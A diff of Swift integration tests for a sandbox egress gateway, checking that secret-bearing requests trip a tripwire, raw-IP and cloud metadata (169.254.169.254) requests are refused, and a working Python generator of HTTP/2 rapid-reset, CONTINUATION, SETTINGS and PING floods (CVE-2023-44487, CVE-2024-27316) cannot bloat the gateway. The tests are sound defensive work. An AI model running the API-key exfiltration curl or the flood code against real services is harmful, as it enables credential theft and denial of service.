@@ -21,11 +21,11 @@ extension Integration {
                         open('answers', 'w').write(repr((models.text, dict(models.headers), direct.text, dict(direct.headers))))
                         refs = requests.get('https://github.com/acme/app.git/info/refs?service=git-upload-pack')
                         print(models.status_code, direct.status_code, refs.status_code, flush=True)
-                        time.sleep(60)
+                        time.sleep(600)
                         """,
                     ])
                 try #require(
-                    eventually(within: 30) { running.output == "200 200 200" }, "\(running.output) \(running.errors)")
+                    eventually(within: 120) { running.output == "200 200 200" }, "\(running.output) \(running.errors)")
                 let asked = try upstreams.requests(to: "api.anthropic.com")
                 #expect(asked.count == 2)
                 for request in asked { #expect(Upstreams.header("x-api-key", of: request) == [Upstreams.anthropicKey]) }
@@ -58,8 +58,8 @@ extension Integration {
                 let upstreams = try Upstreams(desk)
                 let inside = desk.sh(
                     try upstreams.profile(),
-                    "curl -s -H \"x: $ANTHROPIC_API_KEY\" https://example.com/; sleep 20; echo survived")
-                #expect(inside.seconds < 15 && !inside.output.contains("survived"), "\(inside)")
+                    "curl -s -H \"x: $ANTHROPIC_API_KEY\" https://example.com/; sleep 600; echo survived", timeout: 300)
+                #expect(inside.seconds < 300 && !inside.output.contains("survived"), "\(inside)")
                 #expect(try desk.lastReport().at("exit.how")?.string == "tripwire")
                 #expect(try upstreams.requests(to: "example.com").isEmpty)
                 #expect(try desk.auditEvents().contains { $0["event"]?.string == "tripwire" })
@@ -111,6 +111,7 @@ extension Integration {
                     print('quic', attempt(datagram, '1.1.1.1', 443))
                     print('dot', attempt(tcp, '1.1.1.1', 853))
                     print('ipv6', attempt(tcp, '2606:4700:4700::1111', 22, socket.AF_INET6))
+                    print('ping', attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM, 1))
                     print('raw', attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1))
                     print('packet', attempt(socket.socket, 17, socket.SOCK_RAW, 0))
                     print('vsock', attempt(socket.socket, 40, socket.SOCK_STREAM))
@@ -123,6 +124,79 @@ extension Integration {
                     #expect(refusals.contains(String(line.split(separator: " ").last ?? "")), "\(line)")
                 }
                 #expect(inside.lines.count >= 8, "\(inside)")
+            }
+        }
+
+        /// An address is no name, in whichever family: the transparent path takes the connection, and ends it.
+        @Test func addressesAreMetAndRefused() throws {
+            try withDesk { desk in
+                let upstreams = try Upstreams(desk)
+                let inside = desk.sh(
+                    try upstreams.profile(),
+                    """
+                    for url in https://93.184.216.34/ 'https://[2606:4700:4700::1111]/' http://169.254.169.254/ 'http://[fd00::1]/'; do
+                        curl -sg -o /dev/null --noproxy '*' -w '%{http_code}\n' $url
+                    done
+                    curl -sg -o /dev/null --noproxy '*' --resolve example.com:443:93.184.216.34 -w '%{http_code}\n' https://example.com/
+                    true
+                    """)
+                #expect(inside.lines == ["000", "000", "403", "403", "000"], "\(inside)")
+                #expect(try upstreams.requests().isEmpty)
+                #expect(try desk.lastReport()["egress"]?["denied"]?.int == 5)
+            }
+        }
+
+        /// Frames that cost the sender nothing (CVE-2023-44487, CVE-2024-27316, and floods of settings and pings).
+        @Test func floodsOfFramesLeaveTheGatewaysMemoryFlat() throws {
+            try withDesk { desk in
+                let upstreams = try Upstreams(desk)
+                let work = try desk.directory("work")
+                let running = desk.start(
+                    carrel: ["run", "--workdir", work] + (try upstreams.profile()) + [
+                        "--", Host.python, "-c",
+                        #"""
+                        import os, socket, ssl, struct, time
+                        def frame(kind, flags, stream, payload): return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload
+                        head = b''.join(b'\0' + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in [(b':method', b'GET'), (b':scheme', b'https'), (b':authority', b'example.com'), (b':path', b'/')])
+                        def flood(kind):
+                            if kind == 'reset': return b''.join(frame(1, 5, 1 + 2 * i, head) + frame(3, 0, 1 + 2 * i, b'\0\0\0\x08') for i in range(5000))
+                            if kind == 'continuation': return frame(1, 1, 1, head) + frame(9, 0, 1, b'\0\1x\1y') * 20000
+                            if kind == 'settings': return frame(4, 0, 0, b'\0\3\0\0\0\x64') * 20000
+                            return frame(6, 0, 0, b'12345678') * 20000
+                        def once(kind):
+                            made = socket.create_connection(('127.0.0.1', 3128))
+                            made.sendall(b'CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n')
+                            assert b' 200 ' in made.recv(4096)
+                            context = ssl.create_default_context()
+                            context.set_alpn_protocols(['h2'])
+                            tls = context.wrap_socket(made, server_hostname='example.com')
+                            assert tls.selected_alpn_protocol() == 'h2'
+                            tls.settimeout(60)
+                            try:
+                                tls.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + flood(kind))
+                                while tls.recv(65536): pass
+                            except (ConnectionError, ssl.SSLError, BrokenPipeError): pass
+                            tls.close()
+                        def all(rounds):
+                            for _ in range(rounds):
+                                for kind in ('reset', 'continuation', 'settings', 'ping'): once(kind)
+                        all(1)
+                        open('warm', 'w').close()
+                        while not os.path.exists('go'): time.sleep(0.02)
+                        all(4)
+                        print('closed', flush=True)
+                        """#,
+                    ])
+                try #require(
+                    eventually(within: 120) { FileManager.default.fileExists(atPath: work + "/warm") },
+                    "\(running.errors)")
+                let gateway = try #require(upstreams.gateways.first)
+                let before = Host.residentKilobytes(gateway)
+                try desk.write("", to: "work/go")
+                let ended = running.finish(within: 240)
+                #expect(ended.output == "closed", "\(ended)")
+                let after = Host.residentKilobytes(gateway)
+                #expect(before > 0 && after < before + (32 << 10), "\(before) kB, then \(after) kB")
             }
         }
 
